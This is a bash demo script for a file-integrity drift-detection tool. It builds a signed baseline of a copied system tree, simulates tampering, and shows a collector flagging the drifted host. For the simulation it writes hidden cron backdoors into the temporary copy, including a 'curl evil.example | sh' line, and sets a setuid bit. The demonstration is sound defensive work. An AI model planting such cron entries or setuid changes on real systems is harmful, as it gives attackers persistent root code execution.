#!/usr/bin/env bash
# driftwatch demo: sign a baseline of a real tree, let it drift, catch the drift; then a small
# fleet: a collector on its embedded SQLite, two enrolled agents streaming over mutual TLS, one
# host drifted and the collector showing exactly that host's violations.
#
# The "image" is a copy of real system directories of this machine (/etc, /usr/bin, /usr/sbin),
# so the demo needs no root and no network. Everything happens in a temporary directory that is
# removed at the end (KEEP=1 keeps it).
set -euo pipefail
cd "$(dirname "$0")/.."

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "building driftwatch-agent, driftwatch-collector and driftwatch (release)"
cargo build --release --quiet -p driftwatch-agent -p driftwatch-collector
dw=$PWD/target/release/driftwatch-agent
dwc=$PWD/target/release/driftwatch-collector
dwcli=$PWD/target/release/driftwatch
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
  [ "${KEEP:-0}" = 1 ] || rm -rf "$work"
}

work=$(mktemp -d /var/tmp/driftwatch-demo.XXXXXX)
trap cleanup EXIT
img=$work/image
mkdir -p "$img/usr"
step "making an image root in $img from this machine's /etc, /usr/bin and /usr/sbin"
cp -a /etc "$img/" 2>/dev/null || true     # unreadable files (shadow) are skipped without root
cp -a /usr/bin /usr/sbin "$img/usr/"
# Two servers "booted" from the image for the fleet part below, copied before anything drifts.
for h in web-1 web-2; do mkdir -p "$work/$h"; cp -a "$img/." "$work/$h/root"; done
echo "$(find "$img" | wc -l) objects, $(du -sh "$img" | cut -f1)"

step "image pipeline: a signing key, then the signed baseline of the image"
"$dw" keygen --out "$work/pipeline"
"$dw" baseline create --root "$img" --image-id demo-web --image-version 2026.11.1 \
  --expires 90d --sign-key "$work/pipeline.key" --out "$work/baseline.dwb"
"$dw" baseline verify "$work/baseline.dwb" --trusted-key "$work/pipeline.pub"
"$dw" baseline show "$work/baseline.dwb" --trusted-key "$work/pipeline.pub"

step "test server: the untouched image checks clean (exit 0)"
sleep 2  # let the copy age past the scan cache's 2 s racy window, so the cache can trust it
"$dw" check --baseline "$work/baseline.dwb" --trusted-key "$work/pipeline.pub" \
  --root "$img" --state-dir "$work/state" && echo "exit status 0"

step "production: someone fixes things by hand"
some_bin=$(find "$img/usr/bin" -maxdepth 1 -type f -name 'c*' | sort | head -1)
echo "  chmod u+s ${some_bin#"$img"}"
chmod u+s "$some_bin"
echo "  a new job in /etc/cron.d"
mkdir -p "$img/etc/cron.d"; echo '* * * * * root /tmp/.x' > "$img/etc/cron.d/.hidden"
victim=$(find "$img/usr/bin" -maxdepth 1 -type f -name 'd*' | sort | head -1)
echo "  rm ${victim#"$img"}"
rm "$victim"
conf=$(find "$img/etc" -maxdepth 1 -type f -name '*.conf' -readable | sort | head -1)
echo "  edit ${conf#"$img"} and put its old mtime back"
touch -r "$conf" "$work/mtime"; echo '# quick fix' >> "$conf"; touch -r "$work/mtime" "$conf"

step "the check catches all of it (exit 1), re-hashing only what changed"
set +e
"$dw" check --baseline "$work/baseline.dwb" --trusted-key "$work/pipeline.pub" \
  --root "$img" --state-dir "$work/state"
status=$?
set -e
echo "exit status $status"
[ "$status" = 1 ] || { echo "demo failed: expected drift (exit 1)" >&2; exit 1; }

step "the same as JSON for machines (first violation shown)"
"$dw" check --baseline "$work/baseline.dwb" --trusted-key "$work/pipeline.pub" \
  --root "$img" --state-dir "$work/state" --format json \
  | python3 -c 'import json,sys; r=json.load(sys.stdin); print(json.dumps(r["violations"][0], indent=2)); print("summary:", json.dumps(r["summary"]["by_kind"]))' || true

step "fleet: a collector on its embedded SQLite database (loopback ports)"
free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
grpc=$(free_port); http=$(free_port)
cat > "$work/collector.toml" <<EOF
state_dir = "$work/collector"
grpc_listen = "127.0.0.1:$grpc"
http_listen = "127.0.0.1:$http"
server_names = ["127.0.0.1"]
heartbeat_interval = "5s"
EOF
"$dwc" serve --config "$work/collector.toml" 2>"$work/collector.log" &
pids+=($!)
for _ in $(seq 1 100); do grep -q "collector serving" "$work/collector.log" && break; sleep 0.1; done
grep -q "collector serving" "$work/collector.log" || { cat "$work/collector.log" >&2; exit 1; }
fp=$("$dwc" ca show --config "$work/collector.toml" | sed -n 's/^sha256 fingerprint: //p')
echo "collector CA fingerprint $fp"
token=$("$dwc" token create --config "$work/collector.toml" --uses 2 --ttl 10m --host-pattern 'web-*' 2>/dev/null)
export DRIFTWATCH_API=http://127.0.0.1:$http
# The API needs a bearer token: an auditor's is enough to read (shown once, kept in the env).
DRIFTWATCH_TOKEN=$("$dwc" api-token create --config "$work/collector.toml" --role auditor --name demo 2>/dev/null)
export DRIFTWATCH_TOKEN

step "fleet: two agents enroll with one token (CA pinned by fingerprint) and start reporting"
for h in web-1 web-2; do
  "$dw" enroll --collector "https://127.0.0.1:$grpc" --ca-fingerprint "$fp" --token "$token" \
    --host-id "$h" --label role=web --state-dir "$work/$h/state"
  cat > "$work/$h/agent.toml" <<EOF
collector = "https://127.0.0.1:$grpc"
trusted_keys = ["$work/pipeline.pub"]
baseline = "$work/baseline.dwb"
state_dir = "$work/$h/state"
root = "$work/$h/root"
scan_interval = "3s"
EOF
  "$dw" run --config "$work/$h/agent.toml" 2>"$work/$h/agent.log" &
  pids+=($!)
done
wait_for() {  # wait_for DESCRIPTION PYTHON-CONDITION (h: host id -> host JSON)
  for _ in $(seq 1 120); do
    if "$dwcli" --format json hosts 2>/dev/null | python3 -c "import json,sys; h={x['host_id']:x for x in json.load(sys.stdin)['hosts']}; sys.exit(0 if ($2) else 1)"; then return 0; fi
    sleep 0.5
  done
  echo "demo failed: timed out waiting for $1" >&2
  tail -n 5 "$work"/web-*/agent.log "$work/collector.log" >&2
  exit 1
}
wait_for "two clean hosts" "len(h)==2 and all(x['state']=='clean' for x in h.values())"
"$dwcli" hosts

step "production: someone edits web-2 by hand"
mkdir -p "$work/web-2/root/etc/cron.d"
echo '* * * * * root curl evil.example | sh' > "$work/web-2/root/etc/cron.d/backdoor"
chmod u+s "$work/web-2/root${some_bin#"$img"}"
wait_for "web-2 drifted" "h['web-2']['state']=='drifted' and h['web-1']['state']=='clean'"
"$dwcli" hosts
"$dwcli" host show web-2

step "security team: which hosts have anything new in /etc/cron.d?"
"$dwcli" violations search --path '/etc/cron.d/*'
